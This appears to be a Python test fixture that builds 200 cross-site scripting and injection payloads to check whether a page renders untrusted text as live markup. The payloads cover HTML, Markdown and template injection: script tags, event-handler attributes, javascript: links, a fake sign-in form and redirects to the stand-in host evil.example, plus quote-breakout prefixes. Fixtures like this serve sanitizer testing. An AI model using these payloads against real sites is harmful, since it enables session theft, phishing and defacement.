"""Two hundred texts that would do something in a page that takes them for more than texts.

Whatever one of them brings into a page can be found again: it sets `window.ran`, asks the host
evil.example for something, or makes an element that carries `data-evil`.
"""

from collections.abc import Callable

EVIL = "evil.example"
_MARKUP = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1 data-evil>",
    "<svg onload=window.ran=1 data-evil>",
    '<iframe data-evil srcdoc="<script>parent.ran=1</script>">',
    f"<img src=//{EVIL}/p.gif data-evil>",
    f"<form action=//{EVIL} data-evil><input name=p><button>Sign in</button>",
    '<div data-evil style="position:fixed;inset:0;background:red">',
    "<a href=javascript:window.ran=1 data-evil>x</a>",
    f"<link rel=stylesheet href=//{EVIL}/a.css data-evil>",
    f'<meta http-equiv=refresh content="0;url=//{EVIL}" data-evil>',
    f"<base href=//{EVIL}/ data-evil>",
    f"<object data=//{EVIL} data-evil></object>",
    f"<video src=//{EVIL}/v data-evil autoplay onerror=window.ran=1>",
    "<details open ontoggle=window.ran=1 data-evil>",
    "<input autofocus onfocus=window.ran=1 data-evil>",
    f'<style data-evil>@import "//{EVIL}/a.css";</style>',
    "<math><mtext><img src=x onerror=window.ran=1 data-evil>",
    "<body onload=window.ran=1 data-evil>",
    "<marquee onstart=window.ran=1 data-evil>",
    f"<button formaction=//{EVIL} data-evil>x</button>",
    "</title><script>window.ran=1</script>",
    "</textarea><img src=x onerror=window.ran=1 data-evil>",
    "--><img src=x onerror=window.ran=1 data-evil>",
    f'<a href="http://{EVIL}/7" data-evil>x</a><b>y</b><br>',
)
_MARKDOWN = (
    f"![a](http://{EVIL}/1.gif)",
    "[a](javascript:window.ran=1)",
    f"[a](http://{EVIL}/2)",
    f"<http://{EVIL}/3>",
    f"http://{EVIL}/4.gif",
    f"[a]: http://{EVIL}/5",
    f":material/home: :red[x] :smile: $\\href{{http://{EVIL}}}{{x}}$",
    f"$\\includegraphics{{http://{EVIL}/6.gif}}$",
    "```html <img src=x onerror=window.ran=1 data-evil> ```",
    "| a | b | <img src=x onerror=window.ran=1 data-evil>",
)
_TEMPLATES = (
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "{% raw %}{{7*7}}{% endraw %}",
    "';window.ran=1;//",
    '\\";window.ran=1;//',
    f"%{{customdata}} %{{x:$.2f}}<extra><a href='http://{EVIL}/8' data-evil>x</a></extra>",
)
_WAYS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"&lt;b&gt;{text}",
    lambda text: f"**{text}",
)

PAYLOADS = tuple(way(text) for way in _WAYS for text in (*_MARKUP, *_MARKDOWN, *_TEMPLATES))
